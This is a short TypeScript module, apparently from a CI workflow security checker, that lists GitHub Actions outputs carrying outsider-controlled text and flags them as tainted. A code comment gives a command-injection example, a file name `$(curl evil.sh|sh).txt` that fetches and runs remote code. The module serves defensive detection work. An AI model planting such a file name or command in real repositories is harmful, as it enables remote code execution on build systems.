// Outputs of widely used actions that carry text an outsider chose: changed file names in a pull
// request (a file can be named `$(curl evil.sh|sh).txt`), branch names, comment bodies. Data, so
// the next one is a line. `*` means every output of the action.
const TABLE: Record<string, { outputs: readonly string[]; what: string }> = {
  'tj-actions/changed-files': { outputs: ['*'], what: 'file names changed by the pull request' },
  'dorny/paths-filter': { outputs: ['*_files'], what: 'file names changed by the pull request' },
  'tj-actions/branch-names': { outputs: ['*'], what: 'the pull request branch name' },
  'xt0rted/pull-request-comment-branch': { outputs: ['head_ref'], what: 'the pull request branch name' },
  'peter-evans/find-comment': { outputs: ['comment-body'], what: 'a comment body' },
};

/** What the output `name` of action `action` carries, when an outsider controls it. */
export function taintedOutputsOf(action: string | undefined, name: string): string | undefined {
  const entry = action ? TABLE[action] : undefined;
  if (!entry) return undefined;
  const hit = entry.outputs.some((o) => o === '*' || o === name || (o.startsWith('*') && name.endsWith(o.slice(1))));
  return hit ? `${action} output \`${name}\` (${entry.what})` : undefined;
}
